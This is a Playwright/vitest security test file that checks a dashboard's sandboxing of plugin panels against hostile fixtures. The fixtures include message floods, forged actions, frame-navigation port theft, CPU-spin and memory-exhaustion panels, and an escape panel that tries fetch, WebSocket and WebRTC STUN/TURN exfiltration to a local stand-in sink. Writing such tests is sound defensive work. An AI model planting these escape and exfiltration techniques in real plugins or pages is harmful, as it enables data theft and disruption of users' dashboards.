import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import { type Browser, chromium, type Frame, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM, CHROMIUM_ARGS, chromiumVersion, ensureChromium } from './chromium.js';
import { ADMIN, type DashboardKernel, startDashboardKernel } from './dashboard-kernel.js';
import { dashUrl, openPage, signIn, type TrackedPage } from './page-helpers.js';
import { grantPanels, sdkPanelBundle, writePanelPlugin } from './panel-fixtures.js';

const skip = ensureChromium();
if (skip) console.warn(`SKIP hostile panels tests: ${skip}`);

/** Waits for the shell's port, then runs `body` with `port` and `init` in scope. */
const onInit = (body: string) => `globalThis.__omega.then(({ port, init }) => { ${body} });`;

/** Hostile panels, each from its own plugin (so its own site and renderer process). */
const panels = (sink: string, udpPort: number, sdk: string) => ({
  // Well-behaved, and written with the SDK (@omega/sdk/panel, bundled as OmegaPanel).
  goodp: {
    id: 'echo',
    topics: ['plugins.admin.*'],
    reads: ['/api/v1/ui/panels'],
    actions: ['goodp.hello'],
    lib: sdk,
    js: `
      OmegaPanel.connectPanel().then(async (panel) => {
        __out.topics = [];
        panel.onEvent((e) => __out.topics.push(e.topic));
        __out.read = (await panel.read('/api/v1/ui/panels')).items.length;
        __out.action = await panel.requestAction('goodp.hello', { who: 'panel' });
      });
    `,
  },
  fatp: {
    id: 'big',
    js: onInit(`port.postMessage({ type: 'resize', height: 100, pad: 'x'.repeat(10 * 1024 * 1024) });`),
  },
  floodp: {
    id: 'flood',
    js: onInit(
      `for (let i = 0; i < 100; i++) port.postMessage({ type: 'resize', height: 100, pad: 'y'.repeat(40000) });`,
    ),
  },
  forgep: {
    id: 'forge',
    actions: ['forgep.ok'],
    js: onInit(`port.postMessage({ type: 'action', id: 1, action: 'nodes.drain', args: { id: 'all' } });`),
  },
  strayp: {
    id: 'stray',
    js: onInit(`parent.postMessage({ type: 'action-result', id: 1, outcome: 'done' }, '*');`),
  },
  // Navigates its frame to another plugin's panel page before its own first load (and keeps its
  // own page from finishing, so the other page is the first the frame loads): that page must not
  // get the port the shell meant for this panel.
  navp: {
    id: 'nav',
    js: `
      location.href = location.protocol + '//ungranted.localhost:' + location.port + '/ui/ungranted/panels/nope/index.html';
      const t = Date.now();
      while (Date.now() - t < 4000) {}
    `,
  },
  spinp: { id: 'spin', js: onInit(`port.postMessage({ type: 'ready' }); __out.ready = true;`) },
  crashp: { id: 'crash', js: onInit(`port.postMessage({ type: 'ready' }); __out.ready = true;`) },
  escp: {
    id: 'escape',
    js: `
(async () => {
  const kernel = location.protocol + '//127.0.0.1:' + location.port;
  const attempt = async (name, fn) => {
    try { __out[name] = 'allowed: ' + String(await fn()); } catch (e) { __out[name] = 'blocked: ' + (e && e.name); }
  };
  await attempt('parentDom', () => parent.document.title);
  await attempt('cookie', () => { document.cookie = 'x=1'; return document.cookie; });
  await attempt('localStorage', () => localStorage.length);
  await attempt('fetchApi', () => fetch(kernel + '/api/v1/ui/panels').then((r) => r.status));
  await attempt('fetchSink', () => fetch('${sink}/fetch').then((r) => r.status));
  await attempt('websocket', () => new Promise((res, rej) => { const ws = new WebSocket(kernel.replace('http', 'ws') + '/api/v1/events'); ws.onopen = () => res('open'); ws.onerror = () => rej(new TypeError('ws error')); }));
  await attempt('webrtc', async () => {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }, { urls: 'turn:127.0.0.1:${udpPort}', username: 'exfil-secret', credential: 'x' }] });
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    await new Promise((r) => setTimeout(r, 1500));
    return pc.iceGatheringState;
  });
  await attempt('webrtcInChildFrame', async () => {
    const f = document.createElement('iframe');
    document.body.append(f);
    const PC = window[0].RTCPeerConnection;
    const pc = new PC({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    await new Promise((r) => setTimeout(r, 1500));
    return pc.iceGatheringState;
  });
  __out.done = true;
})();
globalThis.__omega.then(({ port }) => port.postMessage({ type: 'ready' }));
`,
  },
});

type Out = Record<string, unknown>;

/** The panel frame of plugin `plugin` (an out-of-process iframe). */
function panelFrame(page: Page, plugin: string): Frame {
  const f = page.frames().find((x) => x.url().includes(`//${plugin}.localhost:`));
  if (!f) throw new Error(`no frame for ${plugin}: ${page.frames().map((x) => x.url())}`);
  return f;
}

const out = (page: Page, plugin: string): Promise<Out> =>
  panelFrame(page, plugin).evaluate(() => (globalThis as unknown as { __out: Out }).__out);

const state = (page: Page, plugin: string, panel: string) =>
  page.locator(`[data-panel="${plugin}/${panel}"]`).getAttribute('data-panel-state');

/** The shell's frame intervals (ms) over `ms` of requestAnimationFrame. */
async function frameTimes(page: Page, ms: number): Promise<number[]> {
  return page.evaluate(
    (span) =>
      new Promise<number[]>((resolve) => {
        const raf = (globalThis as unknown as { requestAnimationFrame(cb: (t: number) => void): void })
          .requestAnimationFrame;
        const d: number[] = [];
        let last = performance.now();
        const end = last + span;
        const f = (t: number) => {
          d.push(t - last);
          last = t;
          if (t < end) raf(f);
          else resolve(d);
        };
        raf(f);
      }),
    ms,
  );
}

const pct = (xs: number[], p: number) => {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))] ?? Number.NaN;
};
const summary = (xs: number[]) =>
  `${xs.length} frames, p50 ${pct(xs, 50).toFixed(1)} ms, p95 ${pct(xs, 95).toFixed(1)} ms, max ${Math.max(...xs).toFixed(1)} ms`;

describe.skipIf(skip !== null)('hostile panels in the real dashboard, in Chromium', () => {
  let d: DashboardKernel;
  let browser: Browser;
  let tp: TrackedPage;
  let token: string;
  let sink: Server;
  let udp: Socket;
  const sinkHits: string[] = [];
  const udpHits: string[] = [];

  beforeAll(async () => {
    sink = createServer((req, res) => {
      sinkHits.push(req.url ?? '');
      res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
    });
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
    const addr = sink.address();
    const sinkUrl = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`;
    // A loopback UDP sink standing in for a STUN/TURN server: WebRTC's way out, which CSP does not cover.
    udp = createSocket('udp4');
    udp.on('message', (m, r) => udpHits.push(`${r.address}:${r.port} ${m.length} bytes`));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const fixtures = panels(sinkUrl, udp.address().port, await sdkPanelBundle());
    const args = [...CHROMIUM_ARGS, '--js-flags=--max-old-space-size=256'];
    if (process.getuid?.() === 0) args.push('--no-sandbox');
    [d, browser] = await Promise.all([
      startDashboardKernel([], {
        addPlugins: async (dir) => {
          for (const [name, p] of Object.entries(fixtures)) {
            await writePanelPlugin(dir, name, [p]);
            grantPanels(dir, name, [p.id]);
          }
          // Declared but not granted: never listed, never framed (except by navp, above). A page
          // that gets a port uses it at once: a stray message, then a forged action.
          await writePanelPlugin(dir, 'ungranted', [
            {
              id: 'nope',
              js: `addEventListener('message', (e) => { if (e.ports[0]) { parent.postMessage({ type: 'got-port' }, '*'); e.ports[0].postMessage({ type: 'action', id: 1, action: 'x.y', args: {} }); } });`,
            },
          ]);
        },
      }),
      chromium.launch({ executablePath: CHROMIUM, args, headless: true }),
    ]);
    token = await d.bootstrapAdmin();
    tp = await openPage(browser);
    await tp.page.goto(dashUrl(d.url, 'tab=dashboard'));
    await signIn(tp.page, ADMIN.username, ADMIN.password);
    console.log(`hostile panels: ${chromiumVersion()}`);
  }, 240_000);

  afterAll(async () => {
    await browser?.close();
    await d?.stop();
    udp?.close();
    await new Promise<void>((resolve) => (sink ? sink.close(() => resolve()) : resolve()));
  });

  it('lists only granted panels; the shell frames each from its own site, sandboxed', async () => {
    const list = await d.call<{ items: Array<{ plugin: string; id: string }> }>(
      'GET',
      '/api/v1/ui/panels',
      undefined,
      token,
    );
    expect(list.status).toBe(200);
    const names = list.body.items.map((p) => `${p.plugin}/${p.id}`).sort();
    expect(names).toEqual(
      [
        'crashp/crash',
        'escp/escape',
        'fatp/big',
        'floodp/flood',
        'forgep/forge',
        'goodp/echo',
        'metrics/node-usage', // the metrics plugin's own (node page), granted by default
        'navp/nav',
        'spinp/spin',
        'strayp/stray',
      ].sort(),
    );
    const frames = tp.page.locator('iframe.panel-frame');
    await expect.poll(() => frames.count(), { timeout: 20_000 }).toBeGreaterThanOrEqual(4);
    const attrs = await tp.page.$$eval('iframe.panel-frame', (fs) =>
      fs.map((f) => [f.getAttribute('sandbox'), new URL(f.getAttribute('src') ?? '').hostname]),
    );
    for (const [sandbox, host] of attrs) {
      expect(sandbox).toBe('allow-scripts');
      expect(host).toMatch(/^[a-z]+\.localhost$/);
    }
    // The shell frames the URL the kernel listed, with a fresh nonce of its own in the fragment.
    const listed = new Map(
      (list.body.items as Array<{ plugin: string; id: string; url: string }>).map((p) => [
        `${p.plugin}/${p.id}`,
        p.url,
      ]),
    );
    // Each frame element names its panel and its page in one render (read together, off the element itself).
    const srcs = await tp.page.$$eval('iframe.panel-frame[data-panel-frame]', (fs) =>
      fs.map((f) => [f.getAttribute('data-panel-frame') ?? '', f.getAttribute('src') ?? '']),
    );
    expect(srcs.length).toBeGreaterThan(0);
    const nonces = new Set<string>();
    for (const [key, src] of srcs) {
      const [url, fragment] = src.split('#');
      expect(url, `the frame in [data-panel="${key}"]; listed: ${[...listed.keys()].join(', ')}`).toBe(
        listed.get(key),
      );
      expect(fragment).toMatch(/^omega-frame=[0-9a-f]{32}$/);
      nonces.add(fragment ?? '');
    }
    expect(nonces.size).toBe(srcs.length);
    expect(await tp.page.locator('[data-panel="ungranted/nope"]').count()).toBe(0);
  });

  it('an oversize message, a flood, a forged action and a stray message each stop their panel at once, shown and audited', async () => {
    const { page } = tp;
    const expected: Array<[string, string, string]> = [
      ['fatp', 'big', 'oversize'],
      ['floodp', 'flood', 'flood'],
      ['forgep', 'forge', 'forged-action'],
      ['strayp', 'stray', 'stray-message'],
    ];
    for (const [plugin, panel, code] of expected) {
      await expect.poll(() => state(page, plugin, panel), { timeout: 20_000 }).toBe('quarantined');
      const shown = page.locator(`[data-panel="${plugin}/${panel}"]`);
      expect(await shown.locator('code').textContent()).toBe(code);
      expect(await shown.locator('iframe').count()).toBe(0); // the frame is gone
    }
    // The forged action never reached the user: no confirmation for it.
    expect(await page.getByRole('dialog').filter({ hasText: 'nodes.drain' }).count()).toBe(0);
    // The operator sees each in the audit trail.
    await expect
      .poll(
        async () => {
          const a = await d.call<{ items: Array<{ action: string; target: string; details?: unknown }> }>(
            'GET',
            '/api/v1/security/audit?action=plugin.panel-stopped&limit=50',
            undefined,
            token,
          );
          return a.body.items
            .map((x) => x.target)
            .filter((t) => t !== 'navp') // stopped on its own schedule (below)
            .sort();
        },
        { timeout: 15_000 },
      )
      .toEqual(['fatp', 'floodp', 'forgep', 'strayp']);
    // The kernel refuses a forged action on its own too (a panel cannot call it; a user could).
    const forged = await d.call(
      'POST',
      '/api/v1/ui/panels/forgep/forge/actions',
      { action: 'nodes.drain' },
      token,
    );
    expect(forged.status).toBe(403);
  });

  it("a panel that navigates its frame to another plugin's panel before its first load: that page never gets the port; stopped, shown, audited", async () => {
    const { page } = tp;
    await expect.poll(() => state(page, 'navp', 'nav'), { timeout: 30_000 }).toBe('quarantined');
    const shown = page.locator('[data-panel="navp/nav"]');
    expect(await shown.locator('code').textContent()).toBe('navigated');
    // The page in the frame never showed the frame's nonce (the other page cannot know it), so the
    // port was never posted: no stray 'got-port', no forged action, the frame stopped by the wait.
    expect(await shown.textContent()).toContain("never showed the frame's nonce");
    await expect
      .poll(
        async () => {
          const a = await d.call<{
            items: Array<{ target: string; details?: { change?: { code?: string } } }>;
          }>('GET', '/api/v1/security/audit?action=plugin.panel-stopped&limit=50', undefined, token);
          return a.body.items.filter((x) => x.target === 'navp').map((x) => x.details?.change?.code);
        },
        { timeout: 15_000 },
      )
      .toEqual(['navigated']);
  });

  it('a well-behaved panel gets its granted reads and topics, and an action only after the user confirms it (audited)', async () => {
    const { page } = tp;
    const dialog = page.getByRole('dialog');
    await dialog.waitFor({ timeout: 20_000 });
    expect(await dialog.textContent()).toContain('goodp.hello');
    // The dialog says what the kernel will require of the user (the default: plugins:write).
    expect(await dialog.locator('[data-panel-action-permission]').textContent()).toContain('plugins:write');
    await dialog.getByRole('button', { name: 'Run it' }).click();
    await expect.poll(async () => (await out(page, 'goodp')).action, { timeout: 15_000 }).toBe('done');
    const o = await out(page, 'goodp');
    expect(o.read).toBe(10); // the read, made with the user's token, as the kernel answered it (9 + metrics' own)
    const topics = o.topics as string[];
    expect(topics.length).toBeGreaterThan(0); // the panel-stopped events above
    expect(topics.every((t) => t.startsWith('plugins.admin.'))).toBe(true); // and nothing else (metrics flow all the time)
    // The audit trail records it (appended as the event arrives: polled).
    await expect
      .poll(async () => {
        const a = await d.call<{
          items: Array<{ target: string; details?: { change?: { action?: string } } }>;
        }>('GET', '/api/v1/security/audit?action=plugin.panel-action&limit=10', undefined, token);
        return a.body.items.map((x) => [x.target, x.details?.change?.action]);
      })
      .toEqual([['goodp', 'goodp.hello']]);
    expect(await state(page, 'goodp', 'echo')).toBe('live');
  });

  it('a panel cannot fetch, open a WebSocket, use WebRTC, reach the parent or keep cookies', async () => {
    const { page } = tp;
    await expect.poll(async () => (await out(page, 'escp')).done, { timeout: 20_000 }).toBe(true);
    const o = await out(page, 'escp');
    console.log(`escaping panel: ${JSON.stringify(o)}`);
    const allowed = Object.entries(o).filter(([, v]) => typeof v === 'string' && v.startsWith('allowed'));
    expect(allowed).toEqual([]);
    await new Promise((r) => setTimeout(r, 1000));
    expect(sinkHits).toEqual([]);
    expect(udpHits).toEqual([]);
    expect(await state(page, 'escp', 'escape')).toBe('live');
  });

  it("a spinning panel: the shell's frame time is measured, the panel shown as not responding, the others live", async () => {
    const { page } = tp;
    const before = await frameTimes(page, 3000);
    // The panel's own process spins (evaluated in its frame, as its own script would).
    void panelFrame(page, 'spinp')
      .evaluate(() => {
        for (;;) {}
      })
      .catch(() => {});
    await new Promise((r) => setTimeout(r, 500));
    const during = await frameTimes(page, 3000);
    console.log(`shell frame time, no panel spinning: ${summary(before)}`);
    console.log(`shell frame time, one panel spinning: ${summary(during)}`);
    expect(during.length).toBeGreaterThan(0);
    await expect.poll(() => state(page, 'spinp', 'spin'), { timeout: 20_000 }).toBe('unresponsive');
    // The shell still works: switch tabs and back.
    await page.locator('[data-tab-link="nodes"]').click();
    await page.locator('[data-tab-link="dashboard"]').click();
    await expect.poll(() => state(page, 'goodp', 'echo'), { timeout: 20_000 }).toBe('live');
  });

  it('a crashing panel (out of memory) is shown as not responding; the shell and the other panels stay live', async () => {
    const { page } = tp;
    // Playwright marks the whole page crashed when any of its frames' renderers dies, so the
    // shell is watched from here on through a DevTools session of its own.
    const cdp = await tp.context.newCDPSession(page);
    const shell = async (expression: string): Promise<unknown> =>
      (
        (await cdp.send('Runtime.evaluate', { expression, returnByValue: true })) as {
          result: { value?: unknown };
        }
      ).result.value;
    const stateOf = (key: string) =>
      shell(`document.querySelector('[data-panel="${key}"]')?.dataset.panelState ?? 'none'`);
    void panelFrame(page, 'crashp')
      .evaluate(() => {
        const keep: number[][] = [];
        for (;;) keep.push(new Array(1_000_000).fill(Math.random()));
      })
      .catch(() => {});
    await expect.poll(() => stateOf('crashp/crash'), { timeout: 30_000 }).toBe('unresponsive');
    await expect.poll(() => stateOf('goodp/echo'), { timeout: 20_000 }).toBe('live');
    expect(await shell('document.title')).toContain('Omega');
    // The shell still answers input: the nodes tab opens.
    await shell(`document.querySelector('[data-tab-link="nodes"]').click()`);
    await expect.poll(() => shell(`document.querySelector('.app')?.dataset.tab`)).toBe('nodes');
    await cdp.detach();
  });
});
